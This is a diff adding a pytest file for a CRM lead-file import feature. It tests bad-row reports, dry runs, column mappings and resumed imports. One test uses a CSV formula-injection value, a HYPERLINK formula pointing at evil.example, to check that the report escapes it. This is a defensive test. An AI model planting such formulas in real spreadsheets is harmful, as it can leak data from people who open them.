@@ -1,0 +1,141 @@
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import orjson
+import pytest
+
+from nurture.db.engine import Database
+from nurture.db.tables import core
+from nurture.errors import FileUnreadable, Refused
+from nurture.journey.intake.import_file import import_file
+from tests.journey.intake.lead_files import NOW, a_house, bring, custody_of, picture, row, rows_of, saved
+
+
+def test_bad_rows_go_into_the_report_and_nothing_of_them_comes_in(db: Database, tmp_path: Path) -> None:
+    path = saved(
+        tmp_path, [row(), row("not an address", Lead_ID="9"), row("bo@example.com", Consent="perhaps")]
+    )
+    done = import_file(a_house(db, tmp_path), path, NOW)
+    assert (done.rows, done.new, done.bad) == (3, 1, 2)
+    assert done.report_path == path.with_name(f"{path.stem}.bad-rows.csv")
+    with done.report_path.open(encoding="utf-8-sig") as file:
+        report = list(csv.DictReader(file))
+    assert [(each["line"], each["Email"]) for each in report] == [
+        ("3", "not an address"),
+        ("4", "bo@example.com"),
+    ]
+    assert rows_of(db, "SELECT normal FROM address") == [("ann@example.com",)]
+    assert rows_of(db, "SELECT rows, bad FROM import_file") == [(3, 2)]
+
+
+def test_a_mended_report_imports(db: Database, tmp_path: Path) -> None:
+    house = a_house(db, tmp_path)
+    done = import_file(house, saved(tmp_path, [row(), row("bo at example.com")]), NOW)
+    assert done.report_path is not None
+    mended = done.report_path.read_text("utf-8-sig").replace("bo at", "bo@").replace("bo@ ", "bo@")
+    done.report_path.write_text(mended, "utf-8")
+    assert import_file(house, done.report_path, NOW).new == 1
+    assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]
+
+
+def test_formulas_in_bad_rows_are_guarded_in_the_report_and_come_in_as_they_were(
+    db: Database, tmp_path: Path
+) -> None:
+    house = a_house(db, tmp_path)
+    phone, name = "+49 40 123456", '=HYPERLINK("http://evil.example/?x=","click")'
+    path = saved(tmp_path, [row("not an address", Company=name, First_Name="'@SUM(1)", Job_Title=phone)])
+    done = import_file(house, path, NOW)
+    assert done.report_path is not None
+    with done.report_path.open(encoding="utf-8-sig", newline="") as file:
+        (bad,) = csv.DictReader(file)
+    assert (bad["Company"], bad["First Name"], bad["Job Title"]) == (f"'{name}", "''@SUM(1)", phone)
+    mended = done.report_path.read_text("utf-8-sig").replace("not an address", "bo@example.com")
+    done.report_path.write_text(mended, "utf-8")
+    assert import_file(house, done.report_path, NOW).new == 1
+    ((facts,),) = rows_of(db, "SELECT facts FROM lead")
+    facts = facts if isinstance(facts, dict) else orjson.loads(facts)
+    assert (facts["company"], facts["first_name"], facts["title"]) == (name, "'@SUM(1)", phone)
+
+
+def test_a_dry_run_tells_the_same_and_writes_nothing(db: Database, tmp_path: Path) -> None:
+    house = a_house(db, tmp_path, batch=2)
+    path = saved(
+        tmp_path,
+        [
+            row(Lead_ID="1"),
+            row("bo@example.com"),
+            row(Company="Firm"),
+            row("x"),
+            row("", Lead_ID="3"),
+            row("cy@example.com", Opted_Out="yes", Registered_On="2026-01-01"),
+        ],
+    )
+    dry = import_file(house, path, NOW, dry_run=True)
+    assert all(
+        rows_of(db, f"SELECT count(*) FROM {table.name}") == [(0,)] for table in core.metadata.sorted_tables
+    )
+    assert import_file(house, path, NOW) == dry
+    assert (dry.new, dry.updated, dry.bad, dry.signals) == (4, 1, 1, 1)
+
+
+def test_columns_are_told_with_what_became_of_them(db: Database, tmp_path: Path) -> None:
+    done = bring(a_house(db, tmp_path), tmp_path, row())
+    assert done.source == "crm"
+    assert done.mapped["Email"] == "email"
+    assert done.unmapped == ("Shoe Size",)
+
+
+def test_a_mapping_names_columns_and_source(db: Database, tmp_path: Path) -> None:
+    mapping = tmp_path / "map.yaml"
+    mapping.write_text(
+        "source: olist\ncolumns: {mql: external_id}\ntemplates: {email: '{mql}@leads.example'}\n"
+        "constants: {consent_basis: consent}\n"
+    )
+    path = tmp_path / "mql.csv"
+    path.write_text("mql,origin\nabc,social\n")
+    import_file(a_house(db, tmp_path), path, NOW, mapping=mapping)
+    assert rows_of(db, "SELECT source, external_id FROM identity") == [("olist", "abc")]
+    assert custody_of(db) == [("intake", "import")]
+
+
+def test_a_folder_given_as_a_file_is_refused(db: Database, tmp_path: Path) -> None:
+    with pytest.raises(FileUnreadable):
+        import_file(a_house(db, tmp_path), tmp_path, NOW)
+
+
+def test_the_report_may_not_overwrite_the_file(db: Database, tmp_path: Path) -> None:
+    path = saved(tmp_path, [row("bad")])
+    with pytest.raises(Refused, match="another file"):
+        import_file(a_house(db, tmp_path), path, NOW, report=path)
+
+
+def test_a_failure_on_the_way_says_how_far_it_came(db: Database, tmp_path: Path) -> None:
+    path = saved(tmp_path, [row("a@example.com"), row("b@example.com"), row("bad"), row("c@example.com")])
+    with pytest.raises(FileUnreadable, match=r"2 rows are in\. Import the file again"):
+        import_file(a_house(db, tmp_path, batch=2), path, NOW, report=tmp_path)
+    assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]
+
+
+class Stopped(Exception):
+    pass
+
+
+def test_an_import_that_died_between_batches_goes_on_where_it_was(db: Database, tmp_path: Path) -> None:
+    house = a_house(db, tmp_path, batch=3)
+    path = saved(
+        tmp_path, [row(f"p{n}@example.com", Lead_ID=str(n), Registered_On="2026-01-01") for n in range(10)]
+    )
+
+    def stop(read: int, size: int) -> None:
+        assert 0 < read <= size
+        if rows_of(db, "SELECT count(*) FROM lead") == [(6,)]:
+            raise Stopped
+
+    with pytest.raises(Stopped):
+        import_file(house, path, NOW, progress=stop)
+    assert rows_of(db, "SELECT count(*) FROM lead") == [(6,)]
+    done = import_file(house, path, NOW)
+    assert (done.new, done.unchanged, done.signals) == (4, 6, 4)
+    assert len(picture(db)) == 10
